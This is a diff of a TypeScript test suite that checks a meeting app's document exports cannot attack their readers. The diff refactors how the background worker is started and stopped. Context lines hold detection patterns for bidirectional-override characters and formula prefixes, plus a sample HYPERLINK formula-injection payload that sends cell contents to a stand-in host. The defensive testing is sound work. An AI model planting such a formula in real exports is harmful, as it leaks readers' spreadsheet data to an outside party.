@@ -1,20 +1,15 @@
-import { spawn, type ChildProcess } from 'node:child_process';
-import { existsSync } from 'node:fs';
-import { join, resolve } from 'node:path';
 import ExcelJS from 'exceljs';
 import { strFromU8, unzipSync } from 'fflate';
 import Papa from 'papaparse';
 import { DataSource } from 'typeorm';
 import type { Ack, AccountView, ApiError, Attendee, MeetingEndpoint, MeetingSyncResult, MeetingWriteResult, MinutesEntry, Page, ReportState, ReportStatusEvent } from '@app/contracts';
 import { startTestApp, type TestApp } from '../support/app';
-import { TEST_REDIS_URL } from '../support/database';
 import { docxText, pdfText, squash } from '../support/documents';
 import { orgByCode } from '../support/factories';
+import { startWorker } from '../support/worker';
 import { UserSession, type TestSocket } from '../support/session';
 import { day } from '../support/time';
 
-const ROOT = resolve(__dirname, '../..');
-const WORKER = join(ROOT, 'dist/apps/worker/apps/worker/src/main.js');
 const BIDI = /[\u202A-\u202E\u2066-\u2069]/;
 const FORMULA_START = /^[=+\-@\t\r]/;
 const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';
@@ -28,7 +23,7 @@ const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';
  */
 describe('exports that cannot attack their reader', () => {
   let t: TestApp;
-  let worker: ChildProcess;
+  let worker: ReturnType<typeof startWorker> | undefined;
   let db: DataSource;
   let admin: UserSession;
   let organizer: UserSession;
@@ -52,13 +47,9 @@ describe('exports that cannot attack their reader', () => {
   };
 
   beforeAll(async () => {
-    if (!existsSync(WORKER)) throw new Error('build the worker first: npx nest build worker');
     t = await startTestApp();
     db = t.app.get(DataSource);
-    worker = spawn(process.execPath, [WORKER], {
-      env: { PATH: process.env.PATH ?? '', HOME: process.env.HOME ?? '/tmp', DATABASE_URL: t.databaseUrl!, REDIS_URL: TEST_REDIS_URL, REDIS_PREFIX: t.redisPrefix, LOG_LEVEL: 'warn' },
-      stdio: ['ignore', 'ignore', 'inherit'],
-    });
+    worker = startWorker(t);
     admin = await UserSession.signIn(t.baseUrl, 'admin');
     organizer = await UserSession.signIn(t.baseUrl, 'organizer');
     chair = await UserSession.signIn(t.baseUrl, 'chair');
@@ -85,11 +76,7 @@ describe('exports that cannot attack their reader', () => {
   });
   afterAll(async () => {
     follower?.close();
-    if (worker && worker.exitCode === null) {
-      const exited = new Promise((r) => worker.once('exit', r));
-      worker.kill('SIGTERM');
-      await exited;
-    }
+    await worker?.stop();
     await t?.close();
   });
 
